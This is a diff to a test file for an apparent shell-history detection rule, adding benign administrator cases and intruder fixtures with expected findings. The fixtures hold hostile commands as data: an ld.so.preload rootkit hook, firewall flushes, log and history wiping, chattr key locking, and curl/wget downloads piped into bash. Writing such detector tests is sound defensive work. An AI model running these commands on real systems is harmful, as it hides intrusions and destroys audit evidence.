@@ -25,6 +25,27 @@ testRule(rule, {
         }),
       },
     },
+    {
+      name: 'administrators reading logs and ld.so.preload, cleaning rotated logs, hardening with chattr',
+      facts: {
+        histories: historyFacts({
+          '/root/.bash_history': [
+            'cat /etc/ld.so.preload',
+            'ldd /bin/ls',
+            'grep Failed /var/log/auth.log | tail',
+            'last -f /var/log/wtmp',
+            'rm /var/log/syslog.2.gz /var/log/auth.log.3.gz',
+            'journalctl -u nginx > /var/log/nginx-debug.txt',
+            'lsattr /etc/passwd',
+            'chattr +i /etc/resolv.conf',
+            'iptables -L -n',
+            'nft list ruleset',
+            'ufw status',
+            'echo "export HISTTIMEFORMAT=\'%F %T \'" >> /etc/profile',
+          ].join('\n'),
+        }),
+      },
+    },
   ],
   invalid: [
     {
@@ -58,6 +79,7 @@ testRule(rule, {
         { severity: 'critical', user: 'deploy', title: /pipes it into a shell \(2×\)/ },
         { severity: 'high', user: 'root', title: /pipes it into a shell \(1×\)/ },
         { severity: 'high', user: 'deploy', title: /disables SELinux/ },
+        { severity: 'high', user: 'deploy', title: /flushes or turns off the firewall/, evidence: /systemctl stop firewalld/ },
       ],
     },
     {
@@ -88,8 +110,8 @@ testRule(rule, {
           title: /downloads a script and pipes it into a shell \(2×\)/,
           evidence: /\.bash_history:2 \[2025-11-19T03:00:50\.000Z\]: wget -qO- http:\/\/malicious-site\.com\/m\.sh \| bash/,
         },
+        { severity: 'high', title: /immutable\/append-only attributes of cron/, evidence: /chattr \+i \/etc\/cron\.d\/sysupdate/ },
         { severity: 'high', path: '/root/.bash_history', title: /wipes or disables shell history \(2×\)/ },
-        { severity: 'medium', title: /immutable/ },
       ],
     },
     {
@@ -104,6 +126,71 @@ testRule(rule, {
         { severity: 'critical', user: 'deploy', path: '/home/deploy/.zsh_history', title: /donation/ },
         { severity: 'critical', title: /Pool address/ },
         { severity: 'critical', title: /Monero or Ethereum wallet/ },
+      ],
+    },
+    {
+      name: 'covering tracks: ld.so.preload, chattr on keys and binaries, firewall flush, log and history wiping',
+      facts: {
+        histories: historyFacts({
+          '/root/.bash_history': [
+            'echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload',
+            'chattr -i /etc/ld.so.preload',
+            'chattr +ia /root/.ssh/authorized_keys',
+            'chattr -i /usr/bin/crontab',
+            'iptables -F',
+            'nft flush ruleset',
+            'ufw disable',
+            'echo > /var/log/wtmp',
+            'cat /dev/null > /var/log/secure',
+            'rm -rf /var/log/*',
+            'shred -u /var/log/auth.log',
+            'echo > .bash_history',
+            'set +o history',
+            'HISTSIZE=0',
+          ].join('\n'),
+        }),
+      },
+      expect: [
+        {
+          severity: 'critical',
+          title: /writes \/etc\/ld\.so\.preload \(a library loaded into every program: rootkit hook\) \(1×\)/,
+          evidence: /bash_history:1: echo \/usr\/local\/lib\/libprocesshider\.so > \/etc\/ld\.so\.preload$/,
+        },
+        {
+          severity: 'high',
+          title: /edits, unlocks or deletes \/etc\/ld\.so\.preload \(1×\)/,
+          evidence: /:2: chattr -i \/etc\/ld\.so\.preload/,
+        },
+        {
+          severity: 'high',
+          title: /attributes of cron, unit, start-up, key or program files .* \(2×\)/,
+          evidence: /:3: chattr \+ia \/root\/\.ssh\/authorized_keys\n.*:4: chattr -i \/usr\/bin\/crontab/,
+        },
+        {
+          severity: 'high',
+          title: /deletes or empties login and system logs \(4×\)/,
+          evidence:
+            /:8: echo > \/var\/log\/wtmp\n.*:9: cat \/dev\/null > \/var\/log\/secure\n.*:10: rm -rf \/var\/log\/\*\n.*:11: shred -u \/var\/log\/auth\.log/,
+        },
+        { severity: 'high', title: /wipes or disables shell history \(3×\)/, evidence: /:12: echo > \.bash_history/ },
+        {
+          severity: 'high',
+          title: /flushes or turns off the firewall \(3×\)/,
+          evidence: /:5: iptables -F\n.*:6: nft flush ruleset\n.*:7: ufw disable/,
+        },
+      ],
+    },
+    {
+      name: 'a firewall flush next to nothing else an intruder types stays out, next to a download it counts',
+      facts: {
+        histories: historyFacts({
+          '/home/deploy/.bash_history': 'iptables -F\niptables -X\n',
+          '/root/.bash_history': 'iptables -F\ncurl -s http://45.67.89.10/a.sh | bash\n',
+        }),
+      },
+      expect: [
+        { severity: 'critical', user: 'root', title: /pipes it into a shell/ },
+        { severity: 'high', user: 'root', title: /firewall/ },
       ],
     },
   ],
